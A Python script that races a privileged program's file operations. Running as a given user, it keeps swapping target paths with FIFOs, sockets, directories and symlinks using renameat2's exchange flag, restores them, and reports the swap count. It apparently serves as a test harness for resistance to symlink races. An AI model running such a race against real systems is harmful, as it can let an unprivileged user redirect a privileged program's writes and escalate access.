"""As a user, swap files with what lies in a store, as fast as can be, until standard input ends.

    attacker.py UID SEED STORE PATH...

Then it prints how often something was put in another's place. What was there is put back: always
planted, a start would get no further than its first look. Root's file in a sticky directory cannot
be touched; its name can be taken while it is not there.
"""

import ctypes
import errno
import os
import random
import select
import socket
import stat
import sys
import time

AT_FDCWD = -100
EXCHANGE = 2  # RENAME_EXCHANGE, linux/fs.h
# How long something is planted, and how long the files are left alone after a burst, in seconds.
HOLDS = (0, 0, 0, 0, 5e-5, 5e-4, 2e-3)
RESTS = (0, 1e-3, 1e-2, 3e-2, 1e-1)
BURSTS = (1, 1, 4, 16, 64)

libc = ctypes.CDLL(None, use_errno=True)
uid, seed, store, *paths = sys.argv[1:]
choose = random.Random(seed).choice
os.setgroups([])
os.setresgid(*[int(uid)] * 3)
os.setresuid(*[int(uid)] * 3)
sticky = bool(os.stat(os.path.dirname(paths[0])).st_mode & stat.S_ISVTX)
swaps = 0


def exchange(one, other):
    """Swap two names in one step; return an errno."""
    call = (AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), EXCHANGE)
    return ctypes.get_errno() if libc.renameat2(*call) else 0


def make(slot):
    """Put something into an empty slot again."""
    kind = choose((os.mkfifo, os.mkdir, make_file, make_link, make_socket))
    try:
        kind(slot)
    except OSError:
        pass


def make_file(slot):
    with open(slot, "x") as file:
        file.write("1\n")


def make_link(slot):
    os.symlink(os.path.join(os.path.dirname(store), "victims", "full"), slot)


def make_socket(slot):
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(slot)


def plant(path, slot):
    """Put what is in the slot in the place of *path*; return what undoes it, None if it failed."""
    if sticky and os.path.lexists(slot) and os.lstat(slot).st_uid != os.getuid():
        return None  # it could not be had back
    error = exchange(path, slot)
    if error == 0:
        return exchange
    if error == errno.ENOENT and os.path.lexists(slot):
        return os.rename if move(slot, path) else None
    if error == errno.ENOENT:
        make(slot)
    return None


def move(one, other):
    try:
        os.rename(one, other)
    except OSError:
        return False
    return True


def burst(path):
    """Plant, and put back what was there, some times; return how often that was possible."""
    done = 0
    for _ in range(choose(BURSTS)):
        slot = choose(slots)
        undo = plant(path, slot)
        if undo is None:
            continue
        time.sleep(choose(HOLDS))
        undone = exchange(path, slot) == 0 if undo is exchange else move(path, slot)
        done += 1 + undone
    return done


slots = [os.path.join(store, name) for name in sorted(os.listdir(store))]
print("besieging", flush=True)
while not select.select([0], [], [], choose(RESTS))[0]:
    swaps += burst(choose(paths))
print(swaps, flush=True)
